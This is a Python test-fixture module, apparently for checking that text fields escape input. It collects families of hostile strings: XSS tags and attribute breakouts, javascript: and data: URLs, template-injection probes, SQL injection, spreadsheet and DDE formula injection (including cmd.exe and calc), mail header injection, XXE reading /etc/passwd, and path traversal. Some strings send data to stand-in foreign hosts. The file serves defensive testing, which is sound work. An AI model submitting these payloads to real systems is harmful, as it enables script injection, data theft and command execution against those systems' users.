"""What nobody should type and somebody will: text that one or another reader of it would take for more.

Each piece is one line of at most 200 characters, as the shortest of our fields take it. Its scripts set
`window.ran` or raise an alert, and whatever is fetched lies on a host that is not ours, so that a test can
see whether a script ran and whether something was asked for.
"""

# ruff: noqa: RUF001  # Letters that look like others are part of what is typed.

from collections.abc import Iterable, Mapping
from itertools import product

LONGEST = 200

RUNS = "window.ran=1"
FOREIGN = ("foreign.example.com", "foreign.example.org", "foreign.invalid")
EVIL = "evil@example.org"


def _joined(*parts: Iterable[str]) -> tuple[str, ...]:
    return tuple("".join(each) for each in product(*parts))


_MARKUP = _joined(
    ("", '">', "'>", "`>", "-->", "*/", "]]>", "</title>", "</textarea>", "</script>", "</style></option>"),
    (
        f"<script>{RUNS}</script>",
        f"<script src=//{FOREIGN[0]}/s.js></script>",
        f"<img src=//{FOREIGN[0]}/i onerror={RUNS}>",
        f"<svg onload={RUNS}>",
        f"<style>*{{background:url(//{FOREIGN[1]}/b)}}</style>",
        f"<iframe srcdoc='<script>top.{RUNS[7:]}</script>'>",
    ),
)
"""Out of a text, an attribute, a comment, a style, CDATA, or an element that holds plain text."""

_ATTRIBUTES = _joined(
    ('"', "'", "`", "x"),
    (
        f" autofocus tabindex=1 onfocus={RUNS} y=",
        f" onmouseover={RUNS} y=",
        f" style=background:url(//{FOREIGN[0]}/a) y=",
        f" style=animation:x onanimationstart={RUNS} y=",
        f";{RUNS};//",
        f"+alert(1)+{EVIL[:1]}",
    ),
)
"""Out of an attribute's quotes, or of a string in a script."""

_ELEMENTS = (
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<svg><image href=https://{FOREIGN[0]}/svg.png>",
    f"<svg><foreignObject><img src=x onerror={RUNS}></foreignObject></svg>",
    f"<svg><a xlink:href='javascript:{RUNS}'><text y=9>tap</text></a></svg>",
    f"<math><mtext><img src=x onerror={RUNS}></mtext></math>",
    f"<math><annotation-xml encoding='text/html'><svg onload={RUNS}></annotation-xml></math>",
    f"<math href='javascript:{RUNS}'>tap</math>",
    f"<details open ontoggle={RUNS}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUNS}>",
    f"<body onload={RUNS}>",
    f"<video src=//{FOREIGN[2]}/v onerror={RUNS}></video>",
    f"<audio src=//{FOREIGN[0]}/a.ogg autoplay></audio>",
    f"<object data=https://{FOREIGN[1]}/o></object>",
    f"<embed src=https://{FOREIGN[1]}/e>",
    f"<iframe src=https://{FOREIGN[0]}/f></iframe>",
    f"<link rel=stylesheet href=https://{FOREIGN[0]}/l.css>",
    f"<link rel=prefetch href=https://{FOREIGN[2]}/p>",
    f"<base href=https://{FOREIGN[0]}/>",
    f'<meta http-equiv=refresh content="0;url=https://{FOREIGN[1]}/">',
    f"<form action=https://{FOREIGN[1]}/><button>Send</button></form>",
    f"<template shadowrootmode=open><script>{RUNS}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUNS}>">',
    f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    f"<ScRiPt>{RUNS}</sCrIpT>",
    f"<script/x>{RUNS}</script x>",
    f"<img/src='x'/onerror={RUNS}>",
    f"<<script>{RUNS}//<</script>",
    f"<a href=javascript:{RUNS}>tap</a>",
    "<b>bold</b> <i>and</i> <plaintext>",
    "<!-- never ended",
    "<script>alert(document.domain)</script>",
)

_ADDRESSES = (
    f"javascript:{RUNS}",
    f"JaVaScRiPt:{RUNS}//https://{FOREIGN[0]}/",
    f"java\tscript:{RUNS}",
    f"javascript://{FOREIGN[0]}/%0a{RUNS}",
    f"vbscript:{RUNS}",
    f"data:text/html,<script>{RUNS}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUNS}'/>",
    "file:///etc/passwd",
    f"//{FOREIGN[0]}/x",
    f"https://{FOREIGN[1]}/track?who=1&what=2",
    f"http://{FOREIGN[2]}/?a=<b>&c='d'",
    f"https://example.org@{FOREIGN[2]}/",
    f"\\\\{FOREIGN[0]}\\share\\x.lnk",
    f"mailto:{EVIL}?bcc={EVIL}&body=x",
)

_TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config.SECRET_KEY }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}",
    "{% include 'layout.html' %}",
    "{% endblock %}{% endfor %}",
    "{# a remark #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s",
    "%s%s%n",
    "{0.__class__}",
    "{name!r:>99}",
    "$name ${name}",
    "@@x [[y]]",
)

_SQL = (
    "'; DROP TABLE commitments; --",
    "' OR '1'='1",
    '") OR 1=1 --',
    "%' AND 1=0 --",
    "\\' OR 1=1 #",
    "1; SELECT pg_sleep(9)",
    "'||(SELECT version())||'",
    "x' UNION SELECT NULL, NULL --",
    "_%_",
    "$$; x $$ :name ?",
)

_FORMULAS = (
    *_joined(
        "=+-@＝＋－＠",
        (
            "1+1",
            "SUM(A1:A9)",
            f'HYPERLINK("https://{FOREIGN[0]}/?x="&A1,"open")',
            "cmd|'/c calc'!A1",
        ),
    ),
    f'=IMPORTXML("https://{FOREIGN[1]}/","//a")',
    f'=WEBSERVICE("https://{FOREIGN[0]}/")',
    '=DDE("soffice";"x";"y")',
    *_joined(("'", "''", '"', '""', ";", ",", '";', "\"'", "' "), ("=1+1", "＝1+1")),
    "x;=1+1;y",
    "x,=1+1,y",
    'x",=1+1,"y',
    "x\t=1+1\ty",
    "_x003D_1+1",
    "_x000D_=1+1",
    "_x0000_=1+1",
    "_x005F_x003D_1",
    "+44 1632 960001",
    "-2",
    "- a line of a list",
    "@example",
    "=",
    "＠",
    "007",
    "1E5",
    "TRUE",
    "2027-03-01",
)

_MAIL = (
    f"Bcc: {EVIL}",
    f"x, {EVIL}",
    f"x; {EVIL}",
    f'"x" <{EVIL}>',
    f'" <{EVIL}>, "x',
    f"x <{EVIL}>,",
    f'\\" <{EVIL}>',
    f"group: {EVIL};",
    f"({EVIL}) a comment",
    f"%0d%0aBcc: {EVIL}",
    f"\\r\\nBcc: {EVIL}",
    f"=?utf-8?q?a=0D=0ABcc:_{EVIL}?=",
    f"=?utf-8?q?=0ABcc:_{EVIL}=0A=0A<b>?= and more",
    "=?utf-8?b?DQpCY2M6IGV2aWxAZXhhbXBsZS5vcmcNCg==?=",
    f"Ä =?iso-8859-1?q?=0D=0ABcc:_{EVIL}?=",
    f"=?utf-8?q?=22?= <{EVIL}>",
    "=?utf-8?q?hello?=",
    "=?utf-8?x?no?= =?",
    "Content-Type: text/html; charset=utf-7",
    "--===============1==--",
    "From the beginning",
    ".",
    "+ADw-script+AD4-",
)
"""Pieces of headers, lists of addresses, and encoded words (RFC 2047), in which a line end may hide."""

_CALENDARS = (
    "BEGIN:VEVENT",
    "END:VEVENT",
    "x\\nEND:VEVENT\\nBEGIN:VEVENT\\nUID:1",
    "x\\r\\nATTENDEE:mailto:evil@example.org",
    f"ATTACH:https://{FOREIGN[0]}/a",
    f'x;ALTREP="https://{FOREIGN[1]}/":y',
    "DTSTART;VALUE=DATE:20270101",
    "X-ALT-DESC;FMTTYPE=text/html:<b>x</b>",
    "\\, \\; \\\\ \\n \\N",
    "BEGIN:VALARM ACTION:AUDIO",
    "BEGIN:VCARD FN:x END:VCARD",
    "^n ^' ^^",
    "C:\\new\\table",
)

_DATA = (
    "\\u003c/script>",
    f"\\x3cscript\\x3e{RUNS}",
    f"<!--<script>{RUNS}",
    f"<![CDATA[<script>{RUNS}</script>]]>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "&e; &amp;e; &#0;",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    f"&#60;script&#62;{RUNS}",
    "&#x3c;b&#x3e;",
    "&nbsp &copy &ltb",
    '<?xml version="1.0"?><?xml-stylesheet href="x"?>',
    "<xi:include href='file:///etc/passwd'/>",
    "<?php echo 7*7 ?>",
    '{"a": [1, null, "\\""]}',
    "null",
    'a,"b",c',
    '"a""b"',
    "'",
    '"',
    "`",
    "\\",
    "C:\\x\\",
    "{\\rtf1 x}",
    "../../etc/passwd",
    "CON.txt",
)

_DOCUMENTS = (
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    f'{{ INCLUDEPICTURE "https://{FOREIGN[0]}/p.png" \\d }}',
    f'<w:instrText>HYPERLINK "https://{FOREIGN[1]}/"</w:instrText>',
    "</w:t></w:r></w:p>",
    '<w:fldSimple w:instr="DATE"/>',
    "</t></is></c>",
    "<c r='A1'><f>1+1</f></c>",
    "&B&KFF0000red &P of &N",
    '&"Arial,Bold"&14x',
    "&G && &",
)
"""A word processor's fields, the XML of office files, and codes of headers and footers in print."""

_MARKDOWN = (
    f"[tap](javascript:{RUNS})",
    f"![x](https://{FOREIGN[0]}/m.png)",
    f"[x][y] [y]: https://{FOREIGN[1]}/",
    f"<https://{FOREIGN[2]}/>",
    "# x",
    "**b** _i_ ~~s~~",
    "```html",
    "| a | b |",
    "* a point",
)

_LETTERS = (
    "\u202egnp.exe",
    "a\u202e\u2066b\u2069c",
    "x\u200by\u200dz",
    "\ufeff=1+1",
    "\u200b=1+1",
    "soft\u00adhyphen",
    "e\u0301 \u00e9",
    "H\u0336e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308l\u0489p",
    "👩\u200d👩\u200d👧 🏴 🇬🇧",
    "\ufdfd لا שלום",
    "İi ıI ß ſ",
    f"＜script＞{RUNS}＜/script＞",
    f"\u2039script\u203a{RUNS}",
    f"<\u017fcript>{RUNS}</\u017fcript>",
    "\ufffd \ue000",
    "𝔘𝔫𝔦 Ⅷ ①",
    "a\u3000b\u00a0c",
    "W" * 180,
    "<" * 180,
    "&" * 60,
    '"' * 60,
    "Ü" * 180,
    "漢字" * 60,
    "😀" * 50,
)

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "markup": _MARKUP,
    "attributes": _ATTRIBUTES,
    "elements": _ELEMENTS,
    "addresses": _ADDRESSES,
    "templates": _TEMPLATES,
    "sql": _SQL,
    "formulas": _FORMULAS,
    "mail": _MAIL,
    "calendars": _CALENDARS,
    "data": _DATA,
    "documents": _DOCUMENTS,
    "markdown": _MARKDOWN,
    "letters": _LETTERS,
}

HOSTILE = tuple(dict.fromkeys(each for family in FAMILIES.values() for each in family))

LINES = (
    "x\nBEGIN:VEVENT\nUID:1\nEND:VEVENT",
    f"x\nBcc: {EVIL}\n\n<script>{RUNS}</script>",
    "x\n.\nQUIT\n..",
    "x\n=1+1\n＝1+1\n\t=1+1",
    "x\n--===============1==\nContent-Type: text/html",
    f"x\n]]>\n</textarea>\n<script>{RUNS}</script>",
    f"x\u2028Bcc: {EVIL}\u2029y",
)
"""What besides fits into a text of several lines."""

CONTROLS = (
    "\0=1+1",
    "x\0y",
    f"x\rBcc: {EVIL}",
    "x\x1b[2Jy",
    "x\x07y",
    f"x\x85Bcc: {EVIL}",
    "x\x0by",
    "\ud800x",
)
"""What no field takes."""
